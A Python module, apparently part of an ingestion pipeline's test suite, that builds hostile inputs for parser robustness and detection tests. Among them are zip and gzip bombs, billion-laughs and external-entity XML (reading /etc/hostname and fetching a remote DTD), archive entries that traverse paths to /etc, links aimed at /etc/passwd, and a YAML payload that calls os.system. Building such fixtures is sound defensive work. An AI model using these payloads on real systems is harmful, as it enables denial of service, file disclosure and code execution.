"""Hostile inputs, made when they are asked for: small as they are given, large, deep, endless or leading elsewhere once they are opened.

None is kept as a file. Each says which formats it is meant for; all of them are given to detection as well.
"""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

LAUGHS = "<!DOCTYPE r [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
QUADRATIC = f"<!DOCTYPE r [<!ENTITY a '{'x' * 60_000}'>]>"
OUTSIDE = '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/hostname"><!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd">%p;]>'
SAID = "Two launchers left the garrison, the office said on Tuesday."
LINKED = '<script type="application/ld+json">{}</script>'
MEGA = 1_000_000


class Bomb(NamedTuple):
    """One hostile input; `forms` it is meant for."""

    name: str
    forms: tuple[str, ...]
    make: Callable[[], bytes]


def _zip(names: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, blob in names.items():
            archive.writestr(zipfile.ZipInfo(name), blob, method)
    return held.getvalue()


def overlapping(members: int, blob: bytes, *, same: bool = True, size: int | None = None) -> bytes:
    """A ZIP whose directory names one packed member many times. `size`: what the directory claims that it unpacks to."""
    packer = zlib.compressobj(9, wbits=-15)
    packed = packer.compress(blob) + packer.flush()
    crc, told = zlib.crc32(blob), len(blob) if size is None else size
    name = b"a.txt"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(packed), told, len(name), 0) + name + packed
    entries = bytearray()
    for number in range(members):
        called = name if same else b"%06d" % number
        entries += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(packed), told, len(called), 0, 0, 0, 0, 0, 0
        ) + called  # fmt: skip
    count = min(members, 0xFFFF)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entries), len(local), 0)
    return local + bytes(entries) + end


def _towers(levels: int, width: int) -> bytes:
    blob = _zip({f"{n}.txt": bytes(4 * MEGA) for n in range(width)})
    for level in range(levels):
        blob = _zip({f"{level}-{n}.zip": blob for n in range(width)})
    return blob


def _nested_gzip(levels: int) -> bytes:
    blob = SAID.encode()
    for _ in range(levels):
        blob = gzip.compress(blob, mtime=0)
    return blob


def docx(body: str, more: dict[str, bytes] | None = None) -> bytes:
    """A Word document with that body."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    begins, _, declared = body.rpartition("]>")
    whole = f"{begins}]>" if begins else ""
    document = f"<?xml version='1.0'?>{whole}<w:document {space}><w:body>{declared}</w:body></w:document>"
    return _zip({"word/document.xml": document.encode(), **(more or {})})


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of those objects, numbered from 1."""
    held, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(held))
        held += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(held)
    held += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    held += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(held + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start))


def page_of(content: bytes, told: bytes = b"") -> bytes:
    """A PDF of one page with that content stream."""
    stream = b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), told, content)
    fonts = b"<</Font<</F1 5 0 R>>>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources%s>>" % fonts
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream, font])


def _flated_twice(size: int) -> bytes:
    return page_of(zlib.compress(zlib.compress(bytes(size), 9), 9), b"/Filter[/FlateDecode/FlateDecode]")


def _object_streams() -> bytes:
    body = zlib.compress(b"7 0 " + b" " * (80 * MEGA) + b"<</Type/Catalog/Pages 2 0 R>>", 9)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>",
               b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(body), body)]  # fmt: skip
    plain = pdf(objects)
    return plain.replace(b"<</Size 4/Root 1 0 R>>", b"<</Size 8/Root 7 0 R>>")


def _deep_mail(levels: int) -> bytes:
    head, body = b"From: a@example.org\nSubject: deep\nMessage-ID: <1@example.org>\nMIME-Version: 1.0\n", b""
    for n in range(levels):
        body += b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n)
    return head + body + b"Content-Type: text/plain\n\n" + SAID.encode() + b"\n"


def _mail(more: bytes, body: bytes = SAID.encode()) -> bytes:
    return b"From: a@example.org\nMessage-ID: <1@example.org>\nMIME-Version: 1.0\n" + more + b"\n\n" + body


def _warc(body: bytes, told: bytes = b"") -> bytes:
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + told + b"\r\n" + body
    head = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://example.org/\r\nContent-Length: %d\r\n\r\n" % len(answer)
    return head + answer + b"\r\n\r\n"


def _tar() -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(link)
        for name in ("../../escaped.txt", "/etc/escaped.txt", "out/escaped.txt"):
            info = tarfile.TarInfo(name)
            info.size = len(SAID)
            archive.addfile(info, io.BytesIO(SAID.encode()))
    return held.getvalue()


def _paths_out() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/hostname")
        for name in ("../../escaped.txt", "/etc/escaped.txt", "C:\\escaped.txt", "a\x00.txt"):
            archive.writestr(zipfile.ZipInfo(name), SAID)
    return held.getvalue()


def _parquet(text: str, rows: int) -> bytes:
    import pyarrow
    import pyarrow.parquet

    column = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * rows, pyarrow.int32()), pyarrow.array([text]))
    held = io.BytesIO()
    pyarrow.parquet.write_table(pyarrow.table({"text": column, "title": pyarrow.array(["a"] * rows)}), held)
    return held.getvalue()


def _rss(body: str, before: str = "") -> bytes:
    return f"<?xml version='1.0'?>{before}<rss version='2.0'><channel><title>f</title>{body}</channel></rss>".encode()


def _item(text: str) -> str:
    return f"<item><title>t</title><description>{text}</description></item>"


def _html(body: str) -> bytes:
    return f"<!doctype html><html><head><title>t</title></head><body><article><p>{SAID}</p>{body}</article></body></html>".encode()


XMLS = ("feed", "sitemap")
HTMLS = ("html", "telegram", "feed")
JSONS = ("json", "jsonl", "telegram", "feed")
LISTS = ("json", "telegram", "feed")
TEXTS = ("text", "clipping", "csv", "jsonl", "gkg", "gdelt-events")

ARCHIVES: tuple[Bomb, ...] = (
    Bomb("zip of one file that unpacks a thousandfold", (), lambda: _zip({"a.txt": bytes(40 * MEGA)})),
    Bomb("zip of bzip2, 20,000 to 1", (), lambda: _zip({"a.txt": bytes(60 * MEGA)}, zipfile.ZIP_BZIP2)),
    Bomb("zip of LZMA, 7,000 to 1", (), lambda: _zip({"a.txt": bytes(60 * MEGA)}, zipfile.ZIP_LZMA)),
    Bomb("zip with a directory of 300,000 files", (), lambda: overlapping(300_000, b"", same=False)),
    Bomb("zip whose 9,000 files are one and the same", (), lambda: overlapping(9_000, bytes(4 * MEGA), same=False)),
    Bomb("zip that claims less than it unpacks to", (), lambda: overlapping(1, bytes(40 * MEGA), size=10)),
    Bomb("zip that claims more than it unpacks to", (), lambda: overlapping(1, SAID.encode(), size=0xFFFFFFF0)),
    Bomb("zips in zips in zips, eight each", (), lambda: _towers(3, 8)),
    Bomb("zip of files that lead out of it", (), _paths_out),
    Bomb("tar of files and links that lead out of it", (), _tar),
    Bomb("gzip that unpacks a thousandfold", (), lambda: gzip.compress(bytes(60 * MEGA), 9, mtime=0)),
    Bomb("gzip of 100,000 members", (), lambda: gzip.compress(b"a", mtime=0) * 100_000),
    Bomb("gzip in gzip, thirty times", (), lambda: _nested_gzip(30)),
    Bomb("gzip of one endless line", ("jsonl", "csv"), lambda: gzip.compress(b'{"text": "' + b"x" * (30 * MEGA), 9, mtime=0)),
    Bomb("bzip2 bomb", (), lambda: bz2.compress(bytes(60 * MEGA))),
    Bomb("xz bomb", (), lambda: lzma.compress(bytes(60 * MEGA), preset=1)),
    Bomb("zstd bomb", (), lambda: b"\x28\xb5\x2f\xfd" + b"\xff" * 40),
)  # fmt: skip
MARKUP: tuple[Bomb, ...] = (
    Bomb("billion laughs", XMLS, lambda: _rss(_item("&a11;"), LAUGHS)),
    Bomb("quadratic blow-up", XMLS, lambda: _rss(_item("&a;" * 60_000), QUADRATIC)),
    Bomb("entities outside", XMLS, lambda: _rss(_item("&a;" + SAID), OUTSIDE)),
    Bomb("XML nested 200,000 deep", XMLS, lambda: _rss("<a>" * 200_000)),
    Bomb("XML with an attribute of 12 MB", XMLS, lambda: _rss(f"<item a='{'x' * (12 * MEGA)}'>{_item(SAID)}</item>")),
    Bomb("XML with 100,000 attributes", XMLS, lambda: _rss("<item " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>")),
    Bomb("XML with 100,000 namespaces", XMLS, lambda: _rss("<item " + " ".join(f"xmlns:a{n}='n{n}'" for n in range(50_000)) + "/>")),
    Bomb("XML of 3,000,000 elements", XMLS, lambda: _rss("<item/>" * 3_000_000)),
    Bomb("XML of 200,000 comments", XMLS, lambda: _rss("<!---->" * 200_000)),
    Bomb("comments before no element", XMLS, lambda: b"<!---->" * 1_000 + b"x"),
    Bomb("instructions before no element", XMLS, lambda: b"<?xml?>" + b"<?a?>" * 1_500 + b"x"),
    Bomb("doctypes before no element", XMLS, lambda: b"<?xml?>" + b"<!DOCTYPE a [ ]>" * 400 + b"x"),
    Bomb("an entry with 50,000 links", ("feed",), lambda: _rss(f"<item>{'<link>http://a.example</link>' * 50_000}<title>t</title></item>")),
)  # fmt: skip
PAGES: tuple[Bomb, ...] = (
    Bomb("HTML nested 1,000,000 deep", HTMLS, lambda: _html("<div>" * 1_000_000)),
    Bomb("HTML of drawings nested 20,000 deep", HTMLS, lambda: _html("<svg>" + "<path>" * 20_000)),
    Bomb("HTML of 300,000 tags that never close", HTMLS, lambda: b"<html>" + b"<a" * 300_000),
    Bomb("HTML of tags in quotation marks", HTMLS, lambda: _html("<a b='" * 100_000)),
    Bomb("HTML of formats that are taken up again", HTMLS, lambda: _html("".join(f"<p><font size={n}>" for n in range(2_000)))),
    Bomb("HTML of tables in tables", HTMLS, lambda: _html("<table><tr><td>" * 20_000)),
    Bomb("HTML with 200,000 attributes", HTMLS, lambda: _html("<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">")),
    Bomb("HTML of 100,000 entities", HTMLS, lambda: _html("&NotSquareSuperset;" * 100_000)),
    Bomb("HTML with JSON-LD nested 100,000 deep", HTMLS, lambda: _html(LINKED.format("[" * 100_000))),
    Bomb("HTML with JSON-LD of many objects", HTMLS, lambda: _html(LINKED.format("[" + "{}," * 100_000 + "{}]"))),
    Bomb("HTML with JSON-LD of commas", HTMLS, lambda: _html(LINKED.format("[1" + "," * 100_000 + " " * 100_000 + "x"))),
    Bomb("HTML of 30,000 metas", HTMLS, lambda: b"<html>" + b"<meta name=a content=b>" * 30_000),
    Bomb("HTML that begins with metas that never end", HTMLS, lambda: b"<html>" + b"<meta " * 100_000),
)  # fmt: skip
OBJECTS: tuple[Bomb, ...] = (
    Bomb("JSON nested 300,000 deep", JSONS, lambda: b'{"items": ' + b"[" * 300_000),
    Bomb("JSON of objects nested 100,000 deep", JSONS, lambda: b'[{"text": "a"},' + b'{"a":' * 100_000),
    Bomb("JSON with a number of 1,000,000 digits", JSONS, lambda: b'[{"text": "Said.", "n": ' + b"9" * MEGA + b"}]"),
    Bomb("JSON with NaN and 1e999999999", JSONS, lambda: b'{"text": "Said.", "a": NaN, "b": 1e999999999, "c": -Infinity}'),
    Bomb("JSON with one key 100,000 times", JSONS, lambda: b"{" + b'"text":"a",' * 100_000 + b'"text":"Said."}'),
    Bomb("JSON of 8,000,000 empty lists", LISTS, lambda: b'[{"text":"a"},' + b"[]," * 8_000_000 + b"0]"),
    Bomb("JSON Feed of 3,000,000 empty objects", LISTS,
         lambda: b'{"version":"https://jsonfeed.org/version/1.1","items":[' + b"{}," * 3_000_000 + b"{}]}"),
    Bomb("JSON of lone surrogates", JSONS, lambda: b'{"text": "' + b"\\ud800" * 10_000 + b'"}'),
    Bomb("JSON that ends in the middle of everything", JSONS, lambda: b'{"type":"public_channel","messages":[{"id":1,"text":["\\'),
)  # fmt: skip
TABLES: tuple[Bomb, ...] = (
    Bomb("CSV with a first cell of 200,000", ("csv",), lambda: b"text" + b"x" * 200_000 + b",title\na,b\n"),
    Bomb("CSV with a cell of 12 MB", ("csv",), lambda: b"text,title\n" + b"x" * (12 * MEGA) + b",b\nSaid.,t\n"),
    Bomb("CSV with a quotation mark left open", ("csv",), lambda: b'text,title\n"' + b"x,y\n" * 3_000_000),
    Bomb("CSV with 500,000 columns", ("csv",), lambda: b"text," + b"a," * 500_000 + b"b\n" + b"," * 500_000 + b"\n"),
    Bomb("CSV of quotation marks", ("csv",), lambda: b"text,title\n" + b'"' * 500_000 + b"\n"),
    Bomb("Parquet of one word a million times", ("parquet",), lambda: _parquet(SAID, 1_000_000)),
    Bomb("Parquet of 1 MB three thousand times", ("parquet",), lambda: _parquet(SAID + "x" * MEGA, 3_000)),
    Bomb("Parquet that lies of its length", ("parquet",), lambda: b"PAR1" + b"\0" * 100 + struct.pack("<I", 0x7FFFFFFF) + b"PAR1"),
)  # fmt: skip
DOCUMENTS: tuple[Bomb, ...] = (
    Bomb("docx of laughs", ("docx",), lambda: docx(LAUGHS + "<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>")),
    Bomb("docx of entities outside", ("docx",), lambda: docx(OUTSIDE + f"<w:p><w:r><w:t>{SAID}&a;</w:t></w:r></w:p>")),
    Bomb("docx whose paragraphs lie in one another", ("docx",),
         lambda: docx("<w:p>" * 190 + f"<w:r><w:t>{'word ' * 800_000}</w:t></w:r>" + "</w:p>" * 190)),
    Bomb("docx of 400,000 paragraphs", ("docx",), lambda: docx("<w:p/>" * 400_000)),
    Bomb("docx that unpacks a thousandfold", ("docx",), lambda: docx("<w:p><w:r><w:t>" + " " * (50 * MEGA) + "</w:t></w:r></w:p>")),
    Bomb("docx with files that lead out of it", ("docx",),
         lambda: docx(f"<w:p><w:r><w:t>{SAID}</w:t></w:r></w:p>", {"../../escaped.xml": b"<a/>", "/etc/escaped": b"x"})),
    Bomb("PDF whose pages are their own children", ("pdf",),
         lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])),
    Bomb("PDF of 2,000,000,000 pages", ("pdf",),
         lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2000000000>>"])),
    Bomb("PDF packed twice, a millionfold", ("pdf",), lambda: _flated_twice(100 * MEGA)),
    Bomb("PDF with a stream of objects that unpacks to 80 MB", ("pdf",), _object_streams),
    Bomb("PDF with 2,000,000 operators", ("pdf",), lambda: page_of(zlib.compress(b"BT " + b"q Q " * 1_000_000), b"/Filter/FlateDecode")),
    Bomb("PDF nested 100,000 deep", ("pdf",), lambda: pdf([b"<</Type/Catalog/Pages " + b"[" * 100_000 + b">>"])),
    Bomb("PDF whose references go round", ("pdf",), lambda: pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"3 0 R", b"2 0 R"])),
    Bomb("PDF whose cross-references go round", ("pdf",),
         lambda: b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n"),
    Bomb("PDF of forms that draw one another", ("pdf",), lambda: page_of(b"/X Do", b"/Type/XObject/Subtype/Form")),
    Bomb("mail nested 5,000 deep", ("eml",), lambda: _deep_mail(5_000)),
    Bomb("mail nested 300 deep with 100,000 lines", ("eml",), lambda: _deep_mail(300) + b"a line\n" * 100_000),
    Bomb("mail with a subject of MIME words", ("eml",), lambda: _mail(b"Subject: " + b"=?a?q?" * 100_000)),
    Bomb("mail with a sender of brackets", ("eml",), lambda: _mail(b"From: " + b"(" * 100_000).replace(b"From: a@example.org\n", b"")),
    Bomb("mail with parameters of marks", ("eml",), lambda: _mail(b'Content-Type: text/plain; a="' + b'";' * 100_000)),
    Bomb("mail with a list of brackets", ("eml",), lambda: _mail(b"List-Id: " + b"<" * 100_000)),
    Bomb("mail with 100,000 headers", ("eml",), lambda: _mail(b"X-A: b\n" * 100_000 + b"X: y")),
    Bomb("mail of 20,000 parts", ("eml",),
         lambda: _mail(b"Content-Type: multipart/mixed; boundary=b", b"--b\n\nx\n" * 20_000)),
    Bomb("web archive with a page that unpacks a thousandfold", ("warc",),
         lambda: _warc(gzip.compress(bytes(30 * MEGA), 9, mtime=0), b"Content-Encoding: gzip\r\n")),
    Bomb("web archive with a page in deflate that unpacks a thousandfold", ("warc",),
         lambda: _warc(zlib.compress(bytes(30 * MEGA), 9), b"Content-Encoding: deflate\r\n")),
    Bomb("web archive with a page in brotli", ("warc",), lambda: _warc(b"\x5b\xff\xff\x03" * 9, b"Content-Encoding: br\r\n")),
    Bomb("web archive with a page in zstd", ("warc",), lambda: _warc(b"\x28\xb5\x2f\xfd" + b"\xff" * 40, b"Content-Encoding: zstd\r\n")),
    Bomb("web archive of chunks of one byte", ("warc",), lambda: _warc(b"1\r\n \r\n" * 300_000, b"Transfer-Encoding: chunked\r\n")),
    Bomb("web archive with a page nested deep", ("warc",), lambda: _warc(_html("<div>" * 100_000))),
    Bomb("web archive with a length of fifteen digits", ("warc",),
         lambda: b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 999999999999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"),
)  # fmt: skip
WORDS: tuple[Bomb, ...] = (
    Bomb("one line of 12 MB", TEXTS, lambda: b"word " * 2_400_000),
    Bomb("bidirectional marks and nothing", TEXTS, lambda: "\u202e\u2066\u200b\ufeff".encode() * 50_000),
    Bomb("NUL between letters", TEXTS, lambda: b"a\0" * 100_000),
    Bomb("surrogates as UTF-8", TEXTS, lambda: b"word \xed\xa0\x80" * 20_000),
    Bomb("letters with 100,000 marks above", TEXTS, lambda: ("said e" + "\u0301" * 100_000).encode()),
    Bomb("one letter 3,000,000 times", TEXTS, lambda: b"a" * 3_000_000),
    Bomb("3,000,000 line ends", TEXTS, lambda: b"a" + b"\n" * 3_000_000 + b"b"),
    Bomb("300,000 lines of one letter", TEXTS, lambda: b"A\n" * 300_000),
    Bomb("full stops", TEXTS, lambda: b"A said" + b"." * MEGA),
    Bomb("short sentences", TEXTS, lambda: b"A b. " * 200_000),
    Bomb("brackets in a text", TEXTS, lambda: b"Note " + b"[" * MEGA),
    Bomb("a mail's header without an end", ("text", "eml"), lambda: b"From: a\nMessage-ID: b\n" + b"X-Y: z\n" * 5_000 + b"\x01"),
)  # fmt: skip


def _alias(levels: int, width: int) -> bytes:
    lines = ["a0: &a0 [x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * width)}]" for n in range(1, levels)]
    return "\n".join(lines).encode()


def _tiff(width: int, height: int, strip: int, rows: int) -> bytes:
    """A GeoTIFF of one packed strip that claims to be of that size."""
    packed = zlib.compress(bytes(strip), 9)
    scale, tie = struct.pack("<3d", 1e-5, 1e-5, 0), struct.pack("<6d", 0, 0, 0, 20.3, 55.0, 0)
    keys = struct.pack("<16H", 1, 1, 0, 3, 1024, 0, 1, 2, 1025, 0, 1, 1, 2048, 0, 1, 4326)
    at = 8 + 2 + 13 * 12 + 4
    places, held = [], b""
    for blob in (scale, tie, keys, packed):
        places.append(at + len(held))
        held += blob
    entries = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (273, 4, 1, places[3]), (277, 3, 1, 1),
        (278, 4, 1, rows), (279, 4, 1, len(packed)), (284, 3, 1, 1), (33550, 12, 3, places[0]), (33922, 12, 6, places[1]),
        (34735, 3, 16, places[2]),
    ]  # fmt: skip
    listed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + listed + b"\0" * 4 + held


FEATURE = '{"type": "Feature", "id": "a", "bbox": [0, 0, 1, 1], "properties": {"datetime": "2024-11-24T12:00:00Z"}, "assets": {}}'
EVERY_INSTRUMENT = "instrument"
BESIDE: tuple[Bomb, ...] = (
    Bomb("YAML of aliases, nine to the ninth", ("declared YAML", "tocsin.yml", "source file"), lambda: _alias(9, 9)),
    Bomb("YAML of aliases, two to the hundredth", ("declared YAML",), lambda: _alias(100, 2)),
    Bomb("YAML of merges", ("declared YAML",), lambda: b"a: &a {x: 1}\n" + b"b: {<<: [" + b"*a, " * 900 + b"*a]}\n"),
    Bomb("YAML that names itself", ("declared YAML", "source file"), lambda: b"&a [*a, *a]"),
    Bomb("YAML nested 100,000 deep", ("declared YAML",), lambda: b"[" * 100_000),
    Bomb("YAML of dashes", ("declared YAML",), lambda: b"- " * 40 + b"a\n"),
    Bomb("YAML that makes objects", ("declared YAML", "source file"), lambda: b'!!python/object/apply:os.system ["true"]'),
    Bomb("YAML with a key 100,000 long", ("declared YAML",), lambda: b"? " + b"k" * 100_000 + b"\n: 1\n"),
    Bomb("YAML of 2 MB that breaks at its end", ("declared YAML",), lambda: b"- {a: 1, b: word}\n" * 105_000 + b"]"),
    Bomb("YAML with a number of 100,000 digits", ("declared YAML",), lambda: b"a: " + b"9" * 100_000),
    Bomb("JSON nested deep", ("STAC catalogue", "STAC service", "networks, JSON", "recorded answers", "a model's answer", EVERY_INSTRUMENT,
         "head of a ledger", "state of the watch", "element sets"), lambda: b'[{"a": ' + b"[" * 200_000),
    Bomb("JSON of 1,000,000 numbers", ("STAC catalogue", "STAC service", "networks, JSON", "a model's answer", EVERY_INSTRUMENT,
         "element sets"), lambda: b'{"features": [' + b"1," * MEGA + b"1]}"),
    Bomb("JSON of numbers without end", ("STAC service", "element sets", EVERY_INSTRUMENT), lambda: b'{"id": ' + b"9" * MEGA + b"}"),
    Bomb("links that lead out of a catalogue", ("STAC catalogue",), lambda: json.dumps({"type": "Catalog", "links": [
        {"rel": "item", "href": href} for href in ("../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://192.0.2.1/a.json",
        "/vsizip/a.zip/b", "./catalog.json", "./a\0.json", "%2e%2e/%2e%2e/etc/passwd")]}).encode()),
    Bomb("100,000 links", ("STAC catalogue",), lambda: json.dumps({"type": "Catalog", "links": [
        {"rel": "item", "href": f"./{n}.json"} for n in range(20_000)]}).encode()),
    Bomb("an image of 900,000 by 900,000 pixels in one strip", ("GeoTIFF",), lambda: _tiff(900_000, 900_000, 1_000, 900_000)),
    Bomb("an image of 60 million pixels in one strip", ("GeoTIFF",), lambda: _tiff(60_000, 1_000, 60 * MEGA, 1_000)),
    Bomb("an image whose strip is not there", ("GeoTIFF",), lambda: _tiff(30_000, 1_000, 10, 1_000)),
    Bomb("one line of 30 MB", ("counts", "networks, CSV", EVERY_INSTRUMENT, "element sets"),
         lambda: b"date,mmsi,lat\n" + b"x" * (30 * MEGA)),
    Bomb("a cell of 2 MB", ("counts", "networks, CSV"), lambda: b"date,value,domain\n2024-01-01," + b"x" * (2 * MEGA) + b",a.example\n"),
    Bomb("a quotation mark left open", ("counts", "networks, CSV", "element sets"), lambda: b'date,value\n"' + b"a,b\n" * 200_000),
    Bomb("a return among the names of columns", (EVERY_INSTRUMENT, "counts"), lambda: b"#EventID|Time|mmsi,lat,M\rgAuthor\na|b\n"),
    Bomb("dates 1,012 years apart", ("instrument seismic",), lambda: b"EventID|Time|Latitude|Longitude|Magnitude\n"
         b"a|1012-11-22T20:10:10|41.0|128.7|1.8\nb|2024-11-22T20:10:10|41.0|128.7|1.8\n"),
    Bomb("dates 10,000 years apart", ("counts",), lambda: b"date,value\n0001-01-01,1\n9999-12-31,2\n"),
    Bomb("element sets of laughs", ("element sets",), lambda: (LAUGHS + "<r><omm><EPOCH>&a11;</EPOCH></omm></r>").encode()),
    Bomb("element sets nested deep", ("element sets",), lambda: b"<ndm><omm>" + b"<a>" * 200_000),
    Bomb("zip of bzip2 as element sets", ("element sets",), lambda: _zip({"a.txt": bytes(60 * MEGA)}, zipfile.ZIP_BZIP2)),
    Bomb("zips in zips as element sets", ("element sets",), lambda: _towers(3, 8)),
    Bomb("robots.txt of stars", ("robots.txt",), lambda: b"User-agent: *\nDisallow: /" + b"*a" * 20_000 + b"$\n"),
    Bomb("robots.txt of 40,000 rules", ("robots.txt",), lambda: b"User-agent: *\n" + b"Disallow: /*a*b*c\n" * 25_000),
    Bomb("robots.txt that waits for ever", ("robots.txt",), lambda: b"User-agent: *\nCrawl-delay: 1e308\n"),
    Bomb("a body in gzip that unpacks a thousandfold", ("body, gzip",), lambda: gzip.compress(bytes(90 * MEGA), 9, mtime=0)),
    Bomb("a body in deflate that unpacks a thousandfold", ("body, deflate",), lambda: zlib.compress(bytes(90 * MEGA), 9)),
    Bomb("a page of 30,000 links", ("links of a page",), lambda: b"<html><head>" + b"<link rel=alternate href=a>" * 30_000),
    Bomb("an answer in a fence without end", ("a model's answer",),
         lambda: json.dumps({"choices": [{"message": {"content": "```json\n" + "\n `" * 200_000}}]}).encode()),
    Bomb("a stamp of lengths that lie", ("time stamp",), lambda: b"\x30\x84\x7f\xff\xff\xff" + b"\x30\x80" * 5_000),
    Bomb("quotation marks", ("reader",), lambda: b'said "' + b'" "' * 100_000),
    Bomb("names and commas", ("reader",), lambda: b"Vladimir Putin, " * 25_000),
    Bomb("one sentence of 200,000", ("reader",), lambda: b"he said that they said that " * 7_500),
    Bomb("letters with marks above", ("reader",), lambda: ("said e" + "\u0301" * 100_000).encode()),
    Bomb("digits", ("reader",), lambda: b"said 1" + b"1" * 100_000),
    Bomb("spaces", ("reader",), lambda: b"said" + b" " * 300_000 + b"so."),
)  # fmt: skip

BOMBS = (*ARCHIVES, *MARKUP, *PAGES, *OBJECTS, *TABLES, *DOCUMENTS, *WORDS)


def lines_without_end(length: int) -> Iterator[bytes]:
    """Pieces of a stream of that many bytes, one sound line, one endless, one sound."""
    yield b'{"text": "The first said so."}\n{"text": "'
    left = length
    piece = b"x" * MEGA
    while left > 0:
        yield piece[:left]
        left -= len(piece)
    yield b'"}\n' + json.dumps({"text": "The last said so."}).encode() + b"\n"
